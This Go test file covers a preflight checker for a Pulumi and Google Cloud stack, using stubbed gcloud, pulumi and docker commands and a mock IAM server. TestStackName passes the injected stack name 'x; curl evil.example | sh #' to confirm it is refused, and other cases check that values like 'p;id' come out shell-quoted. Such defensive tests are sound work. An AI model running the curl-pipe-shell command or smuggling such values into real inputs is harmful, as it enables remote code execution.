package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"hello-timber/stacks/config"
)

// commands are what pulumi, docker and gcloud answer, by their command line. An
// answer that starts with ! is a complaint, and the command fails.
type commands map[string]string

const (
	outputs       = "pulumi stack output --json --stack dev"
	engineVersion = "docker --host unix:///var/run/docker.sock version --format {{.Server.Version}}"
)

// healthy is a machine and a project that lack nothing, as the commands show it
// (Google Cloud SDK 528).
var healthy = commands{
	"go env GOWORK":                    "\n",
	"pulumi version":                   "v3.250.0\n",
	outputs:                            `{}`,
	engineVersion:                      "28.3.1\n",
	"gcloud version --format=json":     `{"Google Cloud SDK": "528.0.0", "core": "2025.06.20"}`,
	"gke-gcloud-auth-plugin --version": "",
	"gcloud auth list --filter=status:ACTIVE --format=json":                                                                       `[{"account": "me@example.com", "status": "ACTIVE"}]`,
	"gcloud auth application-default print-access-token":                                                                          "ya29.token\n",
	"gcloud projects describe acme-timber --format=json":                                                                          `{"lifecycleState": "ACTIVE", "name": "Timber", "projectId": "acme-timber"}`,
	"gcloud billing projects describe acme-timber --format=json":                                                                  `{"billingAccountName": "billingAccounts/0", "billingEnabled": true}`,
	"gcloud services list --enabled --filter=config.name=cloudresourcemanager.googleapis.com --project=acme-timber --format=json": `[{"config": {"name": "cloudresourcemanager.googleapis.com"}, "state": "ENABLED"}]`,
	"gcloud compute networks subnets list --network=default --regions=europe-west1 --project=acme-timber --format=json":           `[{"name": "default", "privateIpGoogleAccess": true}]`,
	"gcloud compute regions describe europe-west1 --project=acme-timber --format=json": `{"zones": ["https://www.googleapis.com/compute/v1/projects/acme-timber/zones/europe-west1-b"], "quotas": [` +
		`{"metric": "CPUS", "limit": 24.0, "usage": 20.0}, {"metric": "PREEMPTIBLE_CPUS", "limit": 0.0, "usage": 0.0}, {"metric": "N2_CPUS", "limit": 8.0, "usage": 0.0}, {"metric": "INSTANCES", "limit": 24.0, "usage": 7.0}, {"metric": "IN_USE_ADDRESSES", "limit": 8.0, "usage": 1.0}, {"metric": "DISKS_TOTAL_GB", "limit": 4096.0, "usage": 0.0}, {"metric": "SSD_TOTAL_GB", "limit": 250.0, "usage": 0.0}]}`,
	"gcloud compute project-info describe --project=acme-timber --format=json":                                      `{"quotas": [{"metric": "CPUS_ALL_REGIONS", "limit": 32.0, "usage": 20.0}]}`,
	"gcloud compute machine-types describe n1-standard-1 --zone=europe-west1-d --project=acme-timber --format=json": `{"guestCpus": 1, "name": "n1-standard-1"}`,
}

// noFile is the config of a new stack.
const noFile = "no file"

// configure makes the folder of a project whose stack dev has keys, KEY=VALUE, and a
// gcp:project.
func configure(t *testing.T, set string) {
	t.Helper()
	t.Chdir(t.TempDir())
	project, text := `"acme-timber"`, ""
	for field := range strings.FieldsSeq(set) {
		key, value, _ := strings.Cut(field, "=")
		if !strings.HasPrefix(value, "{") {
			value = strconv.Quote(value)
		}
		if key == "gcp:project" {
			project = value
			continue
		}
		text += fmt.Sprintf(`, "shop:%s": %s`, key, value)
	}
	const defaults = "name: shop\nconfig:\n  location: {default: europe-west1-d}\n  nodes: {default: 3}\n  machineType: {default: n1-standard-1}\n"
	err := os.WriteFile("Pulumi.yaml", []byte(defaults), 0o600)
	if set != noFile {
		err = errors.Join(err, os.WriteFile("Pulumi.dev.yaml", []byte(`{"config": {"gcp:project": `+project+text+"}}"), 0o600))
	}
	if err != nil {
		t.Fatal(err)
	}
}

// of is the command that lists the subnets of a network in europe-west1.
func of(network, project string) string {
	return "gcloud compute networks subnets list --network=" + network + " --regions=europe-west1 --project=" + project + " --format=json"
}

// install puts these commands, and no other, on the PATH.
func (c commands) install(t *testing.T) {
	t.Helper()
	folder := t.TempDir()
	t.Setenv("PATH", folder)
	t.Setenv("DOCKER_HOST", "")
	t.Setenv("PULUMI_BACKEND_URL", "")
	script := "#!/bin/sh\ncase \"${0##*/} $*\" in\n"
	for line, said := range c {
		redirect, code := "", 0
		if complaint, fails := strings.CutPrefix(said, "!"); fails {
			said, redirect, code = complaint, " >&2", 1
		}
		script += fmt.Sprintf("%s) printf %%s %s%s; exit %d;;\n", config.Quote(line), config.Quote(said), redirect, code)
	}
	script += "esac\necho \"unexpected command: $0 $*\" >&2\nexit 2\n"
	for line, said := range c {
		if said == "gone" {
			continue
		}
		name, _, _ := strings.Cut(line, " ")
		if err := os.WriteFile(filepath.Join(folder, name), []byte(script), 0o700); err != nil {
			t.Fatal(err)
		}
	}
}

var ofProject = regexp.MustCompile(`^/v1/projects/(acme-timber|p;id):testIamPermissions$`)

// grantAll is a Google that grants each permission but these.
func grantAll(t *testing.T, but ...string) {
	t.Helper()
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var question struct{ Permissions []string }
		if err := json.NewDecoder(r.Body).Decode(&question); err != nil {
			t.Error(err)
		}
		if !ofProject.MatchString(r.URL.Path) || r.Header.Get("Authorization") != "Bearer ya29.token" || len(question.Permissions) < 6 {
			http.Error(w, `{"error": {"code": 401, "message": "Request had invalid authentication credentials."}}`, http.StatusUnauthorized)
			return
		}
		granted := slices.DeleteFunc(question.Permissions, func(permission string) bool { return slices.Contains(but, permission) })
		if err := json.NewEncoder(w).Encode(map[string][]string{"permissions": granted}); err != nil {
			t.Error(err)
		}
	}))
	t.Cleanup(server.Close)
	t.Setenv("CLOUDSDK_API_ENDPOINT_OVERRIDES_CLOUDRESOURCEMANAGER", server.URL+"/")
}

// examined returns the line of each check of stack dev.
func examined(t *testing.T) map[string]string {
	t.Helper()
	var out strings.Builder
	err := examine(t.Context(), "dev", &out)
	if strings.Contains(out.String(), "ya29") {
		t.Errorf("it prints the token:\n%s", &out)
	}
	if (err != nil) != strings.Contains(out.String(), "MISSING") {
		t.Errorf("it ends with %v after\n%s", err, &out)
	}
	lines := map[string]string{}
	for line := range strings.Lines(out.String()) {
		lines[strings.Fields(line)[1]] = strings.TrimSpace(line)
	}
	for _, check := range checks {
		for _, need := range check.needs {
			if line := lines[check.what]; line != "" && !strings.HasPrefix(lines[need], "ok ") && !strings.HasPrefix(line, "unknown ") {
				t.Errorf("%s is not ok, and nevertheless: %s", need, line)
			}
		}
	}
	return lines
}

func TestHealthy(t *testing.T) {
	configure(t, "")
	healthy.install(t)
	grantAll(t)
	lines := examined(t)
	for what, line := range lines {
		if !strings.HasPrefix(line, "ok ") {
			t.Errorf("%s: %s", what, line)
		}
	}
	if len(lines) != len(checks) {
		t.Errorf("%d lines of %d checks", len(lines), len(checks))
	}
	if want := "CPUS 3 of 4 free, CPUS_ALL_REGIONS 3 of 12 free, DISKS_TOTAL_GB 90 of 4096 free, INSTANCES 3 of 17 free, IN_USE_ADDRESSES 1 of 7 free"; !strings.HasSuffix(lines["quota"], want) {
		t.Errorf("%s, want %s", lines["quota"], want)
	}
}

// dns has the data of records by their names.
type dns map[string]string

func (d dns) LookupHost(_ context.Context, name string) ([]string, error) {
	if d[name] == "" {
		return nil, &net.DNSError{Err: "no such host", Name: name, IsNotFound: true}
	}
	if d[name] == "down" {
		return nil, &net.DNSError{Err: "server misbehaving", Name: name}
	}
	return strings.Split(d[name], ","), nil
}

func (d dns) LookupCNAME(ctx context.Context, name string) (string, error) {
	data, err := d.LookupHost(ctx, name)
	return strings.Join(data, ""), err
}

// The roles are the same wherever they are listed.
func TestRoles(t *testing.T) {
	for file, prefix := range map[string]string{"../docs/google-cloud.md": "`", "../docs/pipelines.md": " "} {
		text, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		for role := range merge(permissions, domainPermissions) {
			if !strings.Contains(string(text), prefix+strings.TrimPrefix(role, "roles/")) {
				t.Errorf("%s does not have %s", file, role)
			}
		}
	}
}

// TestFindings: each problem is in its line, with its fix. In want, … is any text.
func TestFindings(t *testing.T) {
	const (
		services  = "gcloud services list --enabled --filter=config.name=cloudresourcemanager.googleapis.com --project=acme-timber --format=json"
		region    = "gcloud compute regions describe europe-west1 --project=acme-timber --format=json"
		allRegion = "gcloud compute project-info describe --project=acme-timber --format=json"
		describe  = "gcloud projects describe acme-timber --format=json"
		bill      = "gcloud billing projects describe acme-timber --format=json"
		addresses = "gcloud compute addresses list --filter=address=203.0.113.9 --project=acme-timber --format=json"
		unlock    = "MISSING  stack … Fix: read -rs PULUMI_CONFIG_PASSPHRASE && export PULUMI_CONFIG_PASSPHRASE"
		shared    = "network=projects/acme-host/global/networks/shared subnetwork=nodes secondaryRanges=pods,services"
		reserve   = "MISSING  address  203.0.113.9 is not an external address of the Premium tier in europe-west1 that is reserved and free. Fix: gcloud compute addresses create NAME --region europe-west1 --project acme-timber"
	)
	reserved := func(rest string) commands {
		return commands{addresses: `[{"name": "db", "addressType": "INTERNAL", "region": "regions/europe-west1"}, {"name": "timber", "region": "https://www.googleapis.com/compute/v1/projects/acme-timber/regions/` + rest + `}]`}
	}
	domain := func(name, state, more string) commands {
		return commands{
			outputs: fmt.Sprintf(`{"cluster": "c", "url": "https://%[1]s", "dnsRecords": ["%[1]s. 300 IN A 203.0.113.80", "_acme-challenge.%[1]s. 300 IN CNAME proof.goog."]}`, name),
			"gcloud certificate-manager certificates list --project=acme-timber --format=json": fmt.Sprintf(
				`[{"name": "projects/acme-timber/locations/global/certificates/other", "managed": {"domains": ["other.example.com"], "state": "FAILED"}},
				{"name": "projects/acme-timber/locations/global/certificates/hello-timber-1a2b3c4", "managed": {"domains": [%q], "state": %q%s}}]`, name, state, more)}
	}
	forShell := commands{
		"gcloud projects describe p;id --format=json":         `{"lifecycleState": "ACTIVE"}`,
		"gcloud billing projects describe p;id --format=json": `{"billingEnabled": false}`,
		strings.ReplaceAll(services, "acme-timber", "p;id"):   `[]`,
	}
	ofClass := commands{outputs: `{"cluster": "mine", "url": "https://oak.example.com", "dnsRecords": ["oak.example.com. 300 IN A 203.0.113.80"]}`}
	names := dns{}
	for name, data := range map[string][2]string{"oak": {"203.0.113.80", "proof.goog."}, "ash": {"192.0.2.1", "proof.goog."}, "elm": {"203.0.113.80,2001:db8::80", "proof.goog."}, "fir": {"203.0.113.80", ""}, "yew": {"down", "down"}} {
		names[name+".example.com."], names["_acme-challenge."+name+".example.com."] = data[0], data[1]
	}
	now := resolver
	t.Cleanup(func() { resolver = now })
	resolver = names
	machine := func(name, zone, processors string, change commands) commands {
		if change == nil {
			change = commands{}
		}
		change["gcloud compute machine-types describe "+name+" --zone="+zone+" --project=acme-timber --format=json"] = `{"guestCpus": ` + processors + `}`
		return change
	}
	for name, tt := range map[string]struct {
		set    string // config
		change commands
		lacks  []string // permissions
		want   string   // in a line
	}{
		"a go.work":                    {"", commands{"go env GOWORK": "/code/go.work\n"}, nil, "ok       go … /code/go.work is about other modules: before you run pulumi, run export GOWORK=off"},
		"no pulumi":                    {"", commands{"pulumi version": "gone"}, nil, "MISSING  pulumi … https://www.pulumi.com/docs/install"},
		"pulumi 2":                     {"", commands{"pulumi version": "v2.9.0"}, nil, "MISSING  pulumi … v2.9.0 … install Pulumi 3"},
		"a pulumi without hooks":       {"", commands{"pulumi version": "v3.217.1"}, nil, "MISSING  pulumi … v3.217.1 … install Pulumi 3.218 or newer"},
		"a new stack":                  {noFile, nil, nil, "MISSING  stack    gcp:project is not set. Fix: pulumi config set gcp:project PROJECT_ID --stack dev"},
		"no stack":                     {"", commands{outputs: "!error: no stack named 'dev' found"}, nil, "MISSING  stack    no stack named 'dev' found in backend that pulumi uses. Fix: pulumi stack init dev, or if another backend has it: pulumi login BACKEND_URL"},
		"no stack here":                {"", commands{outputs: "!error: no stack named 'dev' found", "pulumi whoami --json": `{"user": "me", "url": "file://~"}`}, nil, "no stack named 'dev' found in backend file://~. Fix: pulumi stack init dev"},
		"no passphrase":                {"", commands{outputs: "!error: passphrase must be set with PULUMI_CONFIG_PASSPHRASE or PULUMI_CONFIG_PASSPHRASE_FILE environment variables"}, nil, unlock},
		"no passphrase for the config": {`pullSecret={"secure":"AAAB"}`, commands{"pulumi config --json --show-secrets --stack dev": "!error: could not decrypt configuration value: passphrase must be set with PULUMI_CONFIG_PASSPHRASE or PULUMI_CONFIG_PASSPHRASE_FILE environment variables"}, nil, unlock},
		"another passphrase":           {"", commands{outputs: "!error: constructing secrets manager of type \"passphrase\": incorrect passphrase"}, nil, unlock},
		"no passphrase file":           {"", commands{outputs: "!error: unable to read PULUMI_CONFIG_PASSPHRASE_FILE: open /x: no such file or directory"}, nil, unlock},
		"expired login":                {"", commands{outputs: "!error: https://api.pulumi.com: Unauthorized: No credentials provided or are invalid."}, nil, "MISSING  stack … Fix: unset PULUMI_ACCESS_TOKEN; pulumi logout; pulumi login"},
		"no login for the bucket":      {"", commands{outputs: "!error: unable to open bucket gs://acme: google: could not find default credentials."}, nil, "MISSING  stack … Fix: gcloud auth application-default login"},
		"expired login for the bucket": {"", commands{outputs: `!error: read ".pulumi/meta.yaml": oauth2: "invalid_grant" "reauth related error (invalid_rapt)"`}, nil, "MISSING  stack … Fix: gcloud auth application-default login"},
		"wrong bucket":                 {"", commands{outputs: `!error: read ".pulumi/meta.yaml": blob (code=Unknown): storage: bucket doesn't exist`}, nil, "MISSING  stack … Fix: pulumi login BACKEND_URL"},
		"no backend":                   {"", commands{outputs: "!error: PULUMI_ACCESS_TOKEN must be set for login during non-interactive CLI sessions"}, nil, "MISSING  stack … Fix: pulumi login"},
		"another error":                {"", commands{outputs: "!error: something else"}, nil, "MISSING  stack    something else. Fix: pulumi stack select dev"},
		"an existing cluster":          {"kubeconfig=/k context=mine", nil, nil, "ok       stack    dev, on the existing cluster of context mine in /k; Google Cloud is not needed"},
		"no docker":                    {"", commands{engineVersion: "!Cannot connect to the Docker daemon"}, nil, "MISSING  docker   Cannot connect … (https://docs.docker.com/engine/install) … docker context inspect"},
		"old docker":                   {"", commands{engineVersion: "27.5.1"}, nil, "MISSING  docker … 27.5.1 … 28 or newer"},
		"an image, no docker":          {"image=x", commands{engineVersion: "!no"}, nil, "ok       docker   not needed"},
		"no gcloud":                    {"", commands{"gcloud version --format=json": "!gcloud: not found"}, nil, "MISSING  gcloud … https://cloud.google.com/sdk"},
		"no account":                   {"", commands{"gcloud auth list --filter=status:ACTIVE --format=json": "[]"}, nil, "MISSING  account … gcloud auth login"},
		"no plugin":                    {"", commands{"gke-gcloud-auth-plugin --version": "gone"}, nil, "MISSING  plugin … gcloud components install gke-gcloud-auth-plugin"},
		"not logged in":                {"", commands{"gcloud auth application-default print-access-token": "!ERROR: (gcloud.auth) Your default credentials were not found."}, nil, "MISSING  login    (gcloud.auth) Your default credentials were not found. Fix: gcloud auth application-default login"},
		"an outdated login":            {"", commands{"gcloud auth application-default print-access-token": "ya29.outdated"}, nil, "unknown  roles    401 Unauthorized: Request had invalid authentication credentials."},
		"no project access":            {"", commands{describe: "!ERROR: (gcloud.projects.describe) [me] does not have permission\n- details"}, nil, "MISSING  project … does not have permission. Fix: pulumi config set gcp:project PROJECT_ID --stack dev"},
		"deleted project":              {"", commands{describe: `{"lifecycleState": "DELETE_REQUESTED"}`}, nil, "MISSING  project … DELETE_REQUESTED. Fix: gcloud projects undelete acme-timber"},
		"no billing":                   {"", commands{bill: `{"billingEnabled": false}`}, nil, "MISSING  billing … Fix: gcloud billing projects link acme-timber"},
		"billing is secret":            {"", commands{bill: "!ERROR: (gcloud.billing) The caller does not have permission"}, nil, "unknown  billing  (gcloud.billing) The caller does not have permission"},
		"API off":                      {"", commands{services: `[]`}, nil, "MISSING  apis … Fix: gcloud services enable cloudresourcemanager.googleapis.com --project acme-timber"},
		"no role":                      {"", nil, []string{"iam.serviceAccounts.actAs", "container.deployments.create"}, "MISSING  roles … for role in roles/container.admin roles/iam.serviceAccountUser; do"},
		"no subnet":                    {"", commands{of("default", "acme-timber"): `[]`}, nil, "MISSING  network  network default has no subnet default in europe-west1. Fix: gcloud compute networks create default"},
		"no private access":            {"", commands{of("default", "acme-timber"): `[{"name": "default", "privateIpGoogleAccess": false}]`}, nil, "MISSING  network … Fix: gcloud compute networks subnets update default --region europe-west1 --project acme-timber --enable-private-ip-google-access"},
		"custom mode":                  {"", commands{of("default", "acme-timber"): `[{"name": "nodes", "privateIpGoogleAccess": true}]`}, nil, "MISSING  network  network default has no subnet default in europe-west1. Fix: pulumi config set subnetwork nodes --stack dev"},
		"another network":              {"network=mine", commands{of("mine", "acme-timber"): `[{"name": "mine", "privateIpGoogleAccess": true}]`}, nil, "ok       network  mine, with Private Google Access in europe-west1"},
		"no such network":              {"network=mine subnetwork=nodes", commands{of("mine", "acme-timber"): `[]`}, nil, "MISSING  network  network mine has no subnet nodes in europe-west1. Fix: gcloud compute networks subnets create nodes --network mine --range RANGE"},
		"a Shared VPC":                 {shared, commands{of("shared", "acme-host"): `[{"name": "other"}, {"name": "nodes", "privateIpGoogleAccess": true, "secondaryIpRanges": [{"rangeName": "services"}, {"rangeName": "pods"}]}]`}, nil, "ok       network  shared, with Private Google Access in europe-west1"},
		"no such range":                {shared, commands{of("shared", "acme-host"): `[{"name": "nodes", "privateIpGoogleAccess": true, "secondaryIpRanges": [{"rangeName": "pods", "ipCidrRange": "10.4.0.0/14"}]}]`}, nil, "MISSING  network … has no secondary range services. Fix: gcloud compute networks subnets update nodes --region europe-west1 --project acme-host --add-secondary-ranges services=RANGE"},
		"another's network":            {shared, commands{of("shared", "acme-host"): "!ERROR: (gcloud.compute) Required 'compute.subnetworks.list' permission for 'projects/acme-host'"}, nil, "unknown  network … Required 'compute.subnetworks.list' permission"},
		"no such address":              {"address=203.0.113.9", commands{addresses: `[]`}, nil, reserve},
		"an address elsewhere":         {"address=203.0.113.9", reserved(`us-central1"`), nil, reserve},
		"an address of the other tier": {"address=203.0.113.9", reserved(`europe-west1", "addressType": "EXTERNAL", "networkTier": "STANDARD", "status": "RESERVED"`), nil, reserve},
		"an address in use":            {"address=203.0.113.9", reserved(`europe-west1", "status": "IN_USE"`), nil, reserve},
		"its own address":              {"address=203.0.113.9", merge(reserved(`europe-west1", "status": "IN_USE"`), commands{outputs: `{"cluster": "c", "url": "http://203.0.113.9"}`}), nil, "ok       address  203.0.113.9, reserved as timber"},
		"a project for a shell":        {"gcp:project=p;id", commands{"gcloud projects describe p;id --format=json": `{"lifecycleState": "DELETE_REQUESTED"}`}, nil, "MISSING  project … Fix: gcloud projects undelete 'p;id'"},
		"its billing":                  {"gcp:project=p;id", forShell, nil, "MISSING  billing … Fix: gcloud billing projects link 'p;id' --billing"},
		"its API":                      {"gcp:project=p;id", forShell, nil, "MISSING  apis … --project 'p;id'"},
		"its roles":                    {"gcp:project=p;id", forShell, []string{"dns.changes.create", "iam.serviceAccounts.actAs"}, "MISSING  roles … add-iam-policy-binding 'p;id' --member"},
		"its network":                  {"gcp:project=p;id", merge(forShell, commands{of("default", "p;id"): `[]`}), nil, "MISSING  network … networks create default --subnet-mode auto --project 'p;id'"},
		"a network for a shell":        {"network=n;id subnetwork=s;id", commands{of("n;id", "acme-timber"): `[]`}, nil, "MISSING  network … subnets create 's;id' --network 'n;id' --range"},
		"a range for a shell":          {"subnetwork=s;id secondaryRanges=r;id", commands{of("default", "acme-timber"): `[{"name": "s;id", "privateIpGoogleAccess": true}]`}, nil, "MISSING  network … subnets update 's;id' --region europe-west1 --project acme-timber --add-secondary-ranges 'r;id'=RANGE"},
		"a subnet for a shell":         {"", commands{of("default", "acme-timber"): `[{"name": "s$id"}]`}, nil, "MISSING  network … pulumi config set subnetwork 's$id' --stack dev"},
		"a region for a shell":         {"location=l;id address=203.0.113.9", commands{addresses: `[]`}, nil, "MISSING  address … --region 'l;id' --project acme-timber,"},
		"a zone for a shell":           {"domain=ivy.example.com dnsZone=p;id/z;id", domain("ivy.example.com", "PROVISIONING", ""), nil, "MISSING  domain … managed-zones describe 'z;id' --project 'p;id'"},
		"a reserved address":           {"address=203.0.113.9", reserved(`europe-west1", "addressType": "EXTERNAL", "networkTier": "PREMIUM", "status": "RESERVED"`), nil, "ok       address  203.0.113.9, reserved as timber"},
		"a domain of a class":          {"kubeconfig=/k context=mine domain=oak.example.com", ofClass, nil, "ok       domain   oak.example.com, with its record"},
		"a domain of a class, not up":  {"kubeconfig=/k context=mine domain=oak.example.com", nil, nil, "ok       domain   oak.example.com, whose records the next update lists"},
		"a domain, not up":             {"domain=oak.example.com", nil, nil, "ok       domain   oak.example.com, whose records the next update lists"},
		"a domain":                     {"domain=oak.example.com", domain("oak.example.com", "ACTIVE", ""), nil, "ok       domain   oak.example.com, with its records and its certificate"},
		"another domain before":        {"domain=ash.example.com", domain("oak.example.com", "ACTIVE", ""), nil, "ok       domain   ash.example.com, whose records the next update lists"},
		"a domain elsewhere":           {"domain=ash.example.com", domain("ash.example.com", "ACTIVE", ""), nil, "MISSING  domain   DNS has 192.0.2.1 for ash.example.com., not 203.0.113.80. Fix: create this record, and no other of that name: ash.example.com. 300 IN A 203.0.113.80"},
		"a domain with IPv6":           {"domain=elm.example.com", domain("elm.example.com", "ACTIVE", ""), nil, "MISSING  domain   DNS has 203.0.113.80, 2001:db8::80 for elm.example.com., not 203.0.113.80"},
		"a domain without proof":       {"domain=fir.example.com", domain("fir.example.com", "PROVISIONING", ""), nil, "MISSING  domain   DNS has nothing for _acme-challenge.fir.example.com., not proof.goog. Fix: create this record, and no other of that name: _acme-challenge.fir.example.com. 300 IN CNAME proof.goog."},
		"a domain in no one's zone":    {"domain=ivy.example.com dnsZone=acme-dns/example-com", domain("ivy.example.com", "PROVISIONING", ""), nil, "MISSING  domain … Fix: have the domain's registrar name the zone's name servers, which this prints: gcloud dns managed-zones describe example-com --project acme-dns"},
		"no DNS":                       {"domain=yew.example.com", domain("yew.example.com", "PROVISIONING", ""), nil, "unknown  domain   lookup _acme-challenge.yew.example.com.: server misbehaving"},
		"a certificate that waits": {"domain=oak.example.com", domain("oak.example.com", "PROVISIONING", `, "authorizationAttemptInfo": [{"domain": "oak.example.com", "state": "FAILED", "failureReason": "CAA"}]`), nil,
			"MISSING  domain   certificate hello-timber-1a2b3c4 of oak.example.com is PROVISIONING CAA. Fix: wait up to an hour after a change of DNS; then look at docs/https.md"},
		"no role for a domain":         {"domain=oak.example.com dnsZone=example-com", nil, []string{"certificatemanager.certs.delete", "dns.changes.create"}, "MISSING  roles … for role in roles/certificatemanager.owner roles/dns.admin; do"},
		"another's zone":               {"domain=oak.example.com dnsZone=acme-dns/example-com", nil, []string{"dns.changes.create"}, "ok       roles    all 7"},
		"up":                           {"", commands{outputs: `{"cluster": "c"}`}, nil, "ok       quota    in use by the stack"},
		"compute API off":              {"", commands{region: "!ERROR: (gcloud.compute) API [compute.googleapis.com] not enabled"}, nil, "unknown  quota … not enabled"},
		"quota":                        {"", commands{region: `{"quotas": [{"metric": "CPUS", "limit": 4, "usage": 2}, {"metric": "SSD_TOTAL_GB", "limit": 500, "usage": 0}]}`}, nil, "MISSING  quota    too little in europe-west1: CPUS 3 of 2 free. Fix: request more at https://console.cloud.google.com/iam-admin/quotas?project=acme-timber"},
		"quota of the machine family":  {"machineType=n2-standard-4", machine("n2-standard-4", "europe-west1-d", "4", nil), nil, "MISSING  quota    too little in europe-west1: N2_CPUS 12 of 8 free. Fix: request more"},
		"quota of spot nodes":          {"spot=true", commands{region: `{"quotas": [{"metric": "CPUS", "limit": 9, "usage": 0}, {"metric": "PREEMPTIBLE_CPUS", "limit": 2, "usage": 0}]}`}, nil, "MISSING  quota … PREEMPTIBLE_CPUS 3 of 2 free"},
		"quota of nodes that GKE adds": {"maxNodes=5", nil, nil, "MISSING  quota … CPUS 5 of 4 free"},
		"quota of all regions":         {"", commands{allRegion: `{"quotas": [{"metric": "CPUS_ALL_REGIONS", "limit": 12, "usage": 10}]}`}, nil, "MISSING  quota … CPUS_ALL_REGIONS 3 of 2 free"},
		"quota of a region":            {"location=europe-west1", machine("n1-standard-1", "europe-west1-b", "2", nil), nil, "MISSING  quota    too little in europe-west1: CPUS 6 of 4 free"},
		"quota that gcloud leaves out": {"machineType=c4-standard-2", machine("c4-standard-2", "europe-west1-d", "2", nil), nil, "unknown  quota    gcloud lists no C4_CPUS for europe-west1; compare 6 at https://console.cloud.google.com/iam-admin/quotas?project=acme-timber"},
		"quota of disks": {"machineType=c3-standard-4", machine("c3-standard-4", "europe-west1-d", "4",
			commands{region: `{"quotas": [{"metric": "C3_CPUS", "limit": 24, "usage": 0}, {"metric": "SSD_TOTAL_GB", "limit": 100, "usage": 20}]}`}), nil, "MISSING  quota … SSD_TOTAL_GB 90 of 80 free"},
	} {
		t.Run(name, func(t *testing.T) {
			configure(t, tt.set)
			merge(healthy, tt.change).install(t)
			grantAll(t, tt.lacks...)
			lines := slices.Collect(maps.Values(examined(t)))
			pattern := regexp.MustCompile(strings.ReplaceAll(regexp.QuoteMeta(tt.want), " … ", ".*"))
			if !slices.ContainsFunc(lines, pattern.MatchString) {
				t.Errorf("no line has %q:\n%s", tt.want, strings.Join(lines, "\n"))
			}
			for _, command := range ofStack.FindAllString(strings.Join(lines, "\n"), -1) {
				if !strings.Contains(command, " --stack dev") {
					t.Errorf("a command does not name the stack: %s", command)
				}
			}
		})
	}
}

// TestStackName: a name that would be more than that in the printed commands is refused.
func TestStackName(t *testing.T) {
	var out strings.Builder
	if err := examine(t.Context(), "x; curl evil.example | sh #", &out); err == nil || !strings.Contains(err.Error(), "is not a stack's name") || out.Len() > 0 {
		t.Errorf("it ends with %v after\n%s", err, &out)
	}
}

// ofStack finds printed commands that act on the selected stack, unless they name one.
var ofStack = regexp.MustCompile(`pulumi (?:config|stack output|up|destroy|refresh|cancel)\b[^;|&(\n]*`)

func merge[M ~map[string]V, V any](all ...M) M {
	merged := M{}
	for _, some := range all {
		maps.Copy(merged, some)
	}
	return merged
}
